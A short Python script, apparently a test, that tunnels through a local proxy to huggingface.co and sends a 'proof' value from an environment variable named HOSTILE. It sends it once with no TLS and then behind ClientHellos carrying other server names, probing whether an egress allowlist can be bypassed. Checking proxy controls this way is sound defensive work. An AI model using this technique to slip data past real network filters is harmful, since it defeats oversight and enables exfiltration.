"""A tunnel to the hub's addresses, and in it no TLS, or TLS with another server at the same address."""

import contextlib
import json
import os
import socket
import ssl

W = json.loads(os.environ["HOSTILE"])
PROXY = os.environ.get("HTTPS_PROXY", "").rpartition(":")[2]


def tunnel(place):
    """By the proxy, if there is one; directly if there is none."""
    if not PROXY:
        host, _, port = place.rpartition(":")
        return socket.create_connection((host, int(port)), 1)
    client = socket.create_connection(("127.0.0.1", int(PROXY)), 3)
    client.sendall(f"CONNECT {place} HTTP/1.1\r\n\r\n".encode())
    client.recv(1000)  # whatever it is: go on
    return client


def hello(name):
    outgoing = ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return outgoing.read()


for first in (b"", hello("example.org"), hello("huggingface.co.example.org"), hello("cdn.hf.co")):
    with contextlib.suppress(OSError), tunnel("huggingface.co:443") as client:
        client.sendall(first + W["proof"].encode())
        client.settimeout(0.5)
        client.recv(1000)
